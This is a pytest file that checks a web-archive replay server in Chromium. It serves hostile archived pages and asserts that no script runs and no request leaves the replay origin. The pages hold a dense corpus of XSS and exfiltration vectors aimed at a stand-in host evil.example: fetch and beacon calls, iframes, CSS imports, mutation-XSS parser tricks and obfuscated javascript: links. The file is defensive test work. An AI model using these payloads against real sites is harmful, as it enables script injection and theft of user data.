"""Archived pages that attack, replayed in Chromium: nothing runs, and no request leaves the replay origin.

Every name that is not the server's leads to a server that counts requests, so that a request to anywhere is
seen. A stand-in for the pages on the first origin counts what replayed pages ask of it.
"""

from __future__ import annotations

import http.server
import os
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from tests.peers.installed import find
from tests.serve.replay.conftest import HTML, respond, serving, store

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.peer

EVIL = "http://evil.example"
SCRIPT = (
    "window.ran=1;document.title='ran';fetch('{api}/secret');new Image().src='http://evil.example/i';"
    "new WebSocket('ws://evil.example/');navigator.serviceWorker&&navigator.serviceWorker.register('/x.js');"
    "var f=document.createElement('iframe');f.src='http://evil.example/f';document.body.appendChild(f);"
    "try{{top.location='http://evil.example/top'}}catch(e){{}};location='http://evil.example/l';"
    "document.forms[0]&&document.forms[0].submit();navigator.sendBeacon('http://evil.example/b')"
)
TAGS = """<!doctype html><html manifest="http://evil.example/m"><head>
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv=refresh content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel=stylesheet href=bad.css><link rel=icon href=http://evil.example/icon>
<link rel="prefetch prerender preload" href=http://evil.example/pre as=image><link rel=manifest href=/m.json>
<link rel=stylesheet href="{api}/secret">
<style>@import 'http://evil.example/1.css';@\\69mport url(http://evil.example/2.css);
@import url("{api}/secret");
@font-face{{font-family:x;src:u\\72l(http://evil.example/f.woff)}}
body{{font-family:x;background:url(http://evil.example/bg),-webkit-image-set('http://evil.example/set' 1x)}}
p::after{{content:url("http://evil.example/c")}}</style>
<script>{script}</script>
<script type=speculationrules>{{"prefetch":[{{"urls":["http://evil.example/s"]}}]}}</script>
</head><body onload="{script_attribute}" background="http://evil.example/b">
<img src="http://evil.example/img" srcset="http://evil.example/a 1x, //evil.example/b 2x"
 onerror="window.ran=1">
<picture><source srcset="http://evil.example/p"><img src="relative.png"></picture>
<iframe src="http://evil.example/frame"></iframe><iframe src="javascript:window.top.ran=1"></iframe>
<iframe srcdoc="<script>top.ran=1</script><img src='http://evil.example/d'>"></iframe>
<iframe src="data:text/html,<script>fetch('http://evil.example/e')</script>"></iframe>
<iframe src="{api}/secret"></iframe>
<object data="http://evil.example/o"></object><embed src="http://evil.example/e">
<video src="http://evil.example/v" poster="http://evil.example/po" autoplay muted></video>
<audio src="http://evil.example/au" autoplay></audio><input type=image src="http://evil.example/in">
<svg onload="window.ran=1"><script>window.ran=1</script>
<image href="http://evil.example/sv" width=9 height=9 />
<use href="http://evil.example/u#x" /><a><set attributeName=href to="http://evil.example/set" />x</a></svg>
<svg><style><img src="http://evil.example/mx" onerror="window.ran=1"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img src="http://evil.example/mx2" onerror="window.ran=1">
</table></mtext></math>
<noscript><p title="</noscript><img src=http://evil.example/ns onerror=window.ran=1>"></noscript>
<template shadowrootmode=open><img src="http://evil.example/sh"></template>
<form action="http://evil.example/form"><input name=q value=1><button id=send>send</button></form>
<a id=out href="http://evil.example/out" ping="http://evil.example/ping" target=_top>out</a>
<a id=script href="jav&#x09;ascript:window.ran=1">script</a>
<p style="background:url('http://evil.example/st')">Text of the archived page</p>
<plaintext><img src="http://evil.example/pt">"""
SVG = """<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script>window.ran=1</script>
<image xlink:href="http://evil.example/i" width="9" height="9"/><text y="20">Text of the archived page</text>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/f"/></foreignObject></svg>"""
XHTML = """<!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<script>window.ran=1</script><meta http-equiv="refresh" content="0;url=http://evil.example/"/></head>
<body onload="window.ran=1"><img src="http://evil.example/i"/>
<p>Text of the archived page</p></body></html>"""


class Witness(http.server.BaseHTTPRequestHandler):
    """Notes every request."""

    seen: list[str]

    def log_message(self, *words: object) -> None:
        pass

    def do_GET(self) -> None:
        self.seen.append(f"{self.headers['Host']} {self.path}")
        frame = b""
        if self.path.startswith("/show?"):
            self.seen.pop()
            frame = f'<iframe src="{self.path[6:]}" width=800 height=600></iframe>'.encode()
        body = b"<!doctype html><title>pages</title>" + frame
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET


@contextmanager
def witness() -> Iterator[tuple[int, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (Witness,), {"seen": seen})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], seen
        server.shutdown()


@pytest.fixture(scope="module")
def replayed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Chromium, and the three servers."""
    chromium = find("chromium")
    playwright = pytest.importorskip("playwright.sync_api")
    with witness() as (outside, leaks), witness() as (pages, asked):
        api = f"http://127.0.0.1:{pages}"
        script = SCRIPT.format(api=api)
        attribute = script.replace('"', "&quot;")
        tags = TAGS.format(api=api, script=script, script_attribute=attribute)
        headers = (
            *(HTML, f"Refresh: 0; url={EVIL}/h", f"Link: <{EVIL}/l.css>; rel=stylesheet", "Set-Cookie: a=b"),
            *(
                f"Content-Security-Policy-Report-Only: default-src 'none'; report-uri {EVIL}/r",
                "Clear-Site-Data: *",
            ),
            *(f'Report-To: {{"group":"default","max_age":9,"endpoints":[{{"url":"{EVIL}/e"}}]}}', "NEL: {}"),
        )
        captures = [
            respond("http://a.uk/tags", tags.encode(), *headers),
            respond("http://a.uk/svg", SVG.encode(), "Content-Type: image/svg+xml"),
            respond("http://a.uk/xhtml", XHTML.encode(), "Content-Type: application/xhtml+xml"),
            respond("http://a.uk/sniffed", tags.encode(), "Content-Type: text/plain"),
            respond("http://a.uk/untyped", tags.encode()),
            respond("http://a.uk/jump", b"", f"Location: {EVIL}/jump", status="302 Found"),
            respond(
                "http://evil.example/bad.css",
                b"@import 'http://evil.example/3.css';p{color:red}",
                "Content-Type: text/css",
            ),
        ]
        rules = f"MAP * 127.0.0.1:{outside}, EXCLUDE 127.0.0.1"
        flags = ["--no-proxy-server", f"--host-resolver-rules={rules}", "--disable-background-networking"]
        flags += ["--disable-component-update", "--disable-sync", "--no-first-run"]
        flags += ["--no-sandbox"] if os.geteuid() == 0 else []
        folder: Path = tmp_path_factory.mktemp("hostile")
        with (
            serving(store(folder, {"2026-06": captures})) as address,
            playwright.sync_playwright() as started,
        ):
            browser = started.chromium.launch(executable_path=chromium, args=flags)
            yield {"address": address, "browser": browser, "leaks": leaks, "asked": asked, "pages": api}
            browser.close()


def visit(replayed: dict[str, Any], path: str, *, framed: bool = False, click: str = "") -> str:
    """What the page shows; it fails if anything left the origin or ran."""
    replayed["leaks"].clear()
    replayed["asked"].clear()
    origin = replayed["address"].removesuffix("/uk")
    context = replayed["browser"].new_context()
    page = context.new_page()
    address = f"{replayed['address']}/{path}"
    page.goto(f"{replayed['pages']}/show?{address}" if framed else address, wait_until="load")
    page.wait_for_load_state("networkidle")
    if click:
        page.locator(click).first.click(force=True, no_wait_after=True)
        page.wait_for_timeout(500)
        page.wait_for_load_state("networkidle")
    shown = page.frames[1] if framed else page.main_frame
    for frame in page.frames:
        if frame.is_detached() or not frame.url:
            continue  # it was blocked before it had a document, or the page that had it was left
        is_own = frame.url.startswith((origin, "about:", "chrome-error:", "data:"))
        assert is_own or frame.url.startswith(replayed["pages"] + "/show"), frame.url
        assert not frame.evaluate("() => window.ran"), frame.url
    text = shown.evaluate("() => document.documentElement.textContent")
    assert context.cookies() == []
    assert context.service_workers == []
    context.close()
    # Chromium asks its own maker for updates, whatever it shows
    assert [each for each in replayed["leaks"] if not each.startswith("update.googleapis.com ")] == []
    assert [each for each in replayed["asked"] if not each.endswith(" /favicon.ico")] == []
    return str(text)


@pytest.mark.parametrize("framed", [False, True])
@pytest.mark.parametrize("name", ["tags", "svg", "xhtml", "sniffed", "untyped"])
@pytest.mark.parametrize("modifier", ["", "id_"])
def test_no_request_leaves_and_nothing_runs(
    replayed: dict[str, Any],
    name: str,
    modifier: str,
    framed: bool,  # noqa: FBT001
) -> None:
    text = visit(replayed, f"20260601{modifier}/http://a.uk/{name}", framed=framed)
    if name != "untyped":
        assert "Text of the archived page" in text


@pytest.mark.parametrize("click", ["#out", "#script", "#send"])
def test_clicks_stay_in_the_archive(replayed: dict[str, Any], click: str) -> None:
    visit(replayed, "20260601/http://a.uk/tags", click=click)


def test_a_captured_redirect_stays_in_the_archive(replayed: dict[str, Any]) -> None:
    assert "was not captured" in visit(replayed, "20260601/http://a.uk/jump")
